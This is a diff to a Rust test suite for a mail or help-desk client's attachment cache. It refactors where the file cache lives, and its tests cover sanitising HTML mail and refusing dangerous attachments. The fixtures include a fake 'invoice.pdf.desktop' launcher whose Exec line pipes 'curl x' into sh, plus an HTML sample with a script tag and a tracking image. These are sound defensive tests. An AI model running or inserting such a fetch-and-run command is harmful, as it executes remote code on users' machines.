@@ -18,7 +18,6 @@ struct Desk {
     server: Server,
     api: ApiClient,
     store: Store,
-    files: AttachmentFiles,
     dir: tempfile::TempDir,
 }
 
@@ -26,12 +25,10 @@ async fn desk() -> Desk {
     let server = server().await;
     let (api, store, dir) = agent_client(&server).await;
     pull_until_current(&api, &store, PAGE).await.unwrap();
-    let files = AttachmentFiles::new(dir.path().join("attachments"));
     Desk {
         server,
         api,
         store,
-        files,
         dir,
     }
 }
@@ -40,7 +37,6 @@ impl Desk {
     fn online(&self) -> Attachments<'_> {
         Attachments {
             store: &self.store,
-            files: &self.files,
             api: Some(&self.api),
         }
     }
@@ -79,7 +75,11 @@ async fn a_file_downloaded_once_opens_offline() {
     let (attachment, bytes) = desk.online().bytes(id).await.unwrap();
     assert_eq!(bytes.len() as u64, attachment.size_bytes);
     assert_eq!(AttachmentFiles::hash(&bytes), attachment.content_hash);
-    assert!(desk.files.path_of(&attachment.content_hash).exists());
+    assert!(desk
+        .store
+        .files()
+        .path_of(&attachment.content_hash)
+        .exists());
 
     // The server is gone: the cached copy still opens.
     let gone = ApiClient::new("http://127.0.0.1:9", "sdk_gone").unwrap();
@@ -109,7 +109,11 @@ async fn a_screenshot_opens_in_the_window_and_a_damaged_copy_is_fetched_again() 
     let desk = desk().await;
     let id = desk.my_file("image/png").await;
     let (attachment, bytes) = desk.online().bytes(id).await.unwrap();
-    std::fs::write(desk.files.path_of(&attachment.content_hash), b"damaged").unwrap();
+    std::fs::write(
+        desk.store.files().path_of(&attachment.content_hash),
+        b"damaged",
+    )
+    .unwrap();
 
     let opening = desk.online().open(id, desk.dir.path()).await.unwrap();
     assert_eq!(
@@ -198,7 +202,7 @@ async fn a_mails_html_part_is_sanitized_from_the_cache() {
     let html =
         br#"<p>Invoice</p><img src="http://tracker.example/open.gif"><script>alert(1)</script>
         <a href="https://billing.example.com/pay">pay</a>"#;
-    let thread = mail_thread(html, &desk.files);
+    let thread = mail_thread(html, desk.store.files());
     desk.store
         .upsert_threads(std::slice::from_ref(&thread))
         .await
@@ -228,8 +232,9 @@ async fn a_mails_html_part_is_sanitized_from_the_cache() {
 async fn an_html_part_over_the_limit_is_refused_before_downloading() {
     let desk = desk().await;
     let big = "<p>x</p>".repeat(usize::try_from(MAX_INBOUND_HTML_BYTES).unwrap() / 8 + 1);
-    let mut thread = mail_thread(big.as_bytes(), &desk.files);
-    desk.files
+    let mut thread = mail_thread(big.as_bytes(), desk.store.files());
+    desk.store
+        .files()
         .remove(&thread.attachments[0].content_hash)
         .unwrap();
     thread.attachments[0].size_bytes = big.len() as u64;
@@ -281,7 +286,10 @@ fn a_customers_file_name_is_written_as_a_plain_name() {
 #[tokio::test]
 async fn a_launcher_is_never_written_out() {
     let desk = desk().await;
-    let mut thread = mail_thread(b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n", &desk.files);
+    let mut thread = mail_thread(
+        b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n",
+        desk.store.files(),
+    );
     thread.attachments[0].name = "invoice.pdf.desktop".into();
     thread.attachments[0].media_type = "application/x-desktop".into();
     desk.store
